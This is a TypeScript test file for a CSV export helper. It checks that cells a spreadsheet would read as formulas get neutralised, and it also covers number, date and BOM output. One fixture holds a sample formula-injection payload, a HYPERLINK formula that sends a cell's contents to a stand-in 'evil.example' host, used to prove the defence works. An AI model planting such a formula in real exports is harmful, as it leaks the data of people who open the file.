import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvFromTable, neutraliseCell } from './csv';
import { fieldColumns } from './table';

const read = (csv: Buffer) => parse(csv, { delimiter: ';', bom: true }) as string[][];

describe('the one CSV writer', () => {
  it.each([
    ['=1+1 Zéro', "'=1+1 Zéro"],
    ['+33 6 12 34 56 78', "'+33 6 12 34 56 78"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
  ])('neutralises a cell a spreadsheet would read as a formula: %j', (cell, expected) => {
    expect(neutraliseCell(cell)).toBe(expected);
  });

  it('leaves ordinary text alone, a formula character inside it included', () => {
    for (const text of ['Zéro = 1+1', 'Jean-Pierre', "l'@ppart", '06 12 34 56 78', '']) {
      expect(neutraliseCell(text)).toBe(text);
    }
  });

  it('neutralises every text cell of a table, the description and the name a person typed', () => {
    const rows = [
      { name: '=1+1 Zéro', description: '=HYPERLINK("http://evil.example/?x="&A1;"clic")', zip: '01000' },
    ];
    const csv = csvFromTable({
      sheet: 'x',
      columns: fieldColumns<(typeof rows)[number]>(['name', 'description', 'zip']),
      rows,
    });
    expect(csv.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(read(csv)).toEqual([
      ['name', 'description', 'zip'],
      ["'=1+1 Zéro", `'=HYPERLINK("http://evil.example/?x="&A1;"clic")`, '01000'],
    ]);
    expect(csv.toString()).toContain('\r\n');
  });

  it('writes a number column as a number, a negative one included; text there is neutralised', () => {
    const rows = [{ amount: -1500.5 }, { amount: '245000.50' }, { amount: '-1+1' }, { amount: null }];
    const csv = csvFromTable({
      sheet: 'x',
      columns: fieldColumns<(typeof rows)[number]>(['amount'], { amount: 'number' }),
      rows,
    });
    expect(read(csv).slice(1)).toEqual([['-1500.5'], ['245000.5'], ["'-1+1"], ['']]);
  });

  it('writes days as ISO, or as DD/MM/YYYY when asked, and instants as ISO', () => {
    const table = {
      sheet: 'x',
      columns: fieldColumns<{ day: string; at: string }>(['day', 'at'], { day: 'date', at: 'datetime' }),
      rows: [{ day: '2026-03-09', at: '2026-03-09T22:30:00.000Z' }],
    };
    expect(read(csvFromTable(table))[1]).toEqual(['2026-03-09', '2026-03-09T22:30:00.000Z']);
    expect(read(csvFromTable(table, { dates: 'french' }))[1]?.[0]).toBe('09/03/2026');
  });
});
